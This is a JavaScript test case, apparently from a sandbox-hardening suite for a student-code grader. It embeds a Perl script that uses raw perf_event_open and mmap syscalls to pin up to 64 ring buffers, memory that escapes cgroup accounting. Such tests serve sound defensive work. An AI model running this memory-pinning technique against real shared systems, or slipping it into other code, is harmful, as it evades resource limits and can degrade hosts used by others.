import { defineAttack } from '../attack.js';

export default defineAttack({
  id: 'perf-ring-pin',
  class: 'uncharged-memory',
  languages: ['any'],
  why: 'opens perf events and maps a 1 MiB ring buffer for each (perf_event_open + mmap): memory pinned for the student that only RLIMIT_MEMLOCK bounds and the memory cgroup never sees (at most 64 rings here)',
  commands: [
    String.raw`perl - <<'PERL'
use strict; use warnings; $| = 1;
# perf_event_attr: PERF_TYPE_SOFTWARE, size 128, PERF_COUNT_SW_CPU_CLOCK; disabled, exclude_kernel, exclude_hv.
my $attr = pack('L L Q Q Q Q Q', 1, 128, 0, 0, 0, 0, 1 | 32 | 64) . ("\0" x 80);
my ($rings, $bytes) = (0, 0);
for my $i (1 .. 64) {
  my $fd = syscall(298, $attr, 0, -1, -1, 0);
  if ($fd < 0) { print "perf_event_open: $!\n"; last }
  my $len = (1 + 256) * 4096;
  my $addr = syscall(9, 0, $len, 3, 1, $fd, 0);
  if ($addr == -1) { print "mmap of ring $i: $!\n"; last }
  $rings++; $bytes += $len;
}
print "pinned $rings rings, $bytes bytes\n";
sleep 2 if $rings;
PERL`,
  ],
  parallelSafe: false,
  expected: ['graded'],
});
